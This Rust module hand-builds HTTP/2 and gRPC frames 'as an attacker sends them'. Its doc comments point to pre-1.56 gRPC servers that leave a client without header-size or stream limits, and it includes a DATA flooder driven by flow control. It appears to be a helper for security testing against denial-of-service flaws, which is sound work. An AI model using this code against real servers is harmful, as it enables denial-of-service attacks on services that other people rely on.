//! HTTP/2 by hand: frames as an attacker sends them.

use std::io::{Read, Write};
use std::net::TcpStream;

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Kinds of frames.
pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const PRIORITY: u8 = 2;
pub const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
pub const PING: u8 = 6;
pub const GO_AWAY: u8 = 7;
pub const WINDOW_UPDATE: u8 = 8;
pub const CONTINUATION: u8 = 9;
pub const UNKNOWN: u8 = 0x77;

/// Flags of frames.
pub const ACK: u8 = 1;
pub const END_HEADERS: u8 = 4;
pub const PADDED: u8 = 8;

/// The longest payload that a server takes unless it says otherwise.
pub const PAYLOAD_BYTES_MAX: usize = 16_384;

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// What opens a connection. It confirms none of the server's settings: before that gRPC 1.56 holds a client to no limit of
/// headers (16 MiB instead of 16 KiB) or of streams.
pub fn hello() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, b"")].concat()
}

/// The header block of a call, without its end of headers.
pub fn call(path: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86, 0x04];
    text(&mut block, path);
    block.push(0x01);
    text(&mut block, "pd");
    for [name, value] in [["content-type", "application/grpc"], ["te", "trailers"]] {
        block.push(0);
        text(&mut block, name);
        text(&mut block, value);
    }
    block
}

/// A name or a value of a header, as it is: with its length in front, as HPACK writes it.
pub fn text(block: &mut Vec<u8>, text: &str) {
    match u8::try_from(text.len()) {
        Ok(len @ 0..127) => block.push(len),
        _ => {
            block.push(127);
            let mut rest = text.len() - 127;
            while rest >= 128 {
                block.push(u8::try_from(rest % 128 + 128).unwrap());
                rest /= 128;
            }
            block.push(u8::try_from(rest).unwrap());
        }
    }
    block.extend(text.as_bytes());
}

/// The numbers of a client's streams.
pub fn streams() -> impl Iterator<Item = u32> {
    (1..).step_by(2)
}

/// Sends `len` bytes of DATA on stream 1 of a connection that has sent `begun` bytes of it, as fast as the server's windows let it, until
/// the server has enough. Returns how many it took.
pub fn send_data(mut stream: TcpStream, begun: i64, len: usize) -> usize {
    let mut frames = stream.try_clone().unwrap();
    let (mut sent, mut stream_window, mut connection_window) = (0, 65_535 - begun, 65_535 - begun);
    let mut first_window = 65_535;
    let mut head = [0; 9];
    while sent < len {
        let room = usize::try_from(stream_window.min(connection_window)).unwrap_or(0).min(PAYLOAD_BYTES_MAX);
        if room > 0 {
            let data = vec![0; room.min(len - sent)];
            if stream.write_all(&frame(DATA, 0, 1, &data)).is_err() {
                break;
            }
            sent += data.len();
            let data = i64::try_from(data.len()).unwrap();
            (stream_window, connection_window) = (stream_window - data, connection_window - data);
            continue;
        }
        if frames.read_exact(&mut head).is_err() {
            break;
        }
        let number = |bytes: &[u8]| bytes.iter().fold(0, |number, byte| number << 8 | i64::from(*byte));
        let mut payload = vec![0; usize::try_from(number(&head[..3])).unwrap()];
        if frames.read_exact(&mut payload).is_err() {
            break;
        }
        match (head[3], number(&head[5..])) {
            (WINDOW_UPDATE, 0) => connection_window += number(&payload),
            (WINDOW_UPDATE, _) => stream_window += number(&payload),
            (SETTINGS, _) if head[4] == 0 => {
                // Until then the server insists on the windows from before.
                drop(stream.write_all(&frame(SETTINGS, ACK, 0, b"")));
                for entry in payload.chunks(6).filter(|entry| entry[..2] == [0, 4]) {
                    stream_window += number(&entry[2..]) - first_window;
                    first_window = number(&entry[2..]);
                }
            }
            (PING, _) if head[4] == 0 => drop(stream.write_all(&frame(PING, ACK, 0, &payload))),
            // It ends the call, or the connection.
            (RST_STREAM | HEADERS | GO_AWAY, _) => break,
            _ => {}
        }
    }
    sent
}
